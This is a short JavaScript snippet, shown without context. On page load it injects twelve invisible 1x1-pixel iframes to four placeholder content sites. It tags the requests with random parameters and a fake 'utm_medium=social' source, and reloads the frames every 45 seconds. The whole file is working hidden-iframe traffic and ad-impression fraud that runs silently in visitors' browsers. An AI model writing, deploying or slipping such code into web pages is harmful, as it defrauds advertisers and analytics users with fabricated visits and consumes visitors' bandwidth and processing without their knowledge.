var sites=["https://mag-one.example/","https://mag-two.example/","https://recipes-day.example/","https://celebs-hot.example/"];
window.addEventListener("load",function(){
for(var i=0;i<12;i++){var f=document.createElement("iframe");
f.src=sites[i%4]+"?p="+Math.floor(Math.random()*900)+"&utm_medium=social";
f.setAttribute("style","position:absolute;top:0;left:0;width:1px;height:1px;opacity:0;z-index:-1;border:none");
f.setAttribute("sandbox","allow-scripts allow-same-origin");document.body.appendChild(f);}
setInterval(function(){document.querySelectorAll("iframe").forEach(function(f){if(f.width!="300")f.src=f.src})},45000);
});
